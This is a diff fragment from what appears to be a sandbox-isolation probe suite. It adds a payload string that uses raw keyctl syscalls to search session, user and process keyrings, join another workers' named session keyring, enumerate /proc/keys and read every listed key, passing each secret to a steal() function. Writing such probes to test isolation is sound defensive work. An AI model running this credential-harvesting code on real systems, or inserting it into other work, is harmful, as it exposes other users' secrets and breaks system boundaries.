@@ -82,6 +82,46 @@ attempt("ppid-environ", lambda: environ(os.getppid()))
 attempt("init-environ", lambda: environ(1))
 """
 
+KEYRING = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+def keyctl(*args):
+    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
+    got = libc.syscall(CFG["keyctl"], *wide)
+    if got < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return got
+
+def read_key(serial):
+    buf = ctypes.create_string_buffer(4096)
+    n = keyctl(11, serial, buf, 4096)  # KEYCTL_READ
+    steal(f"key-{serial}", buf.raw[: min(n, 4096)])
+
+def search(ring):
+    read_key(keyctl(10, ring, b"user", CFG["key"].encode(), 0))  # KEYCTL_SEARCH
+
+rings = {"session": -3, "user": -4, "user-session": -5, "process": -2, "thread": -1}
+for label, ring in rings.items():
+    attempt(f"search-{label}", lambda ring=ring: search(ring))
+
+def join_the_workers():
+    keyctl(1, CFG["session_name"].encode())  # KEYCTL_JOIN_SESSION_KEYRING, by its name
+    search(-3)
+
+attempt("join-workers-session", join_the_workers)
+
+def every_listed_key():
+    listed = open("/proc/keys").read()
+    print("LISTED", listed.replace("\\n", " | ")[:800], flush=True)
+    for line in listed.splitlines():
+        serial = int(line.split()[0], 16)
+        attempt(f"read-{serial}", lambda serial=serial: read_key(serial))
+
+attempt("proc-keys", every_listed_key)
+"""
+
 READ_HOME = """
 def read(path):
     steal(path, open(path, "rb").read())
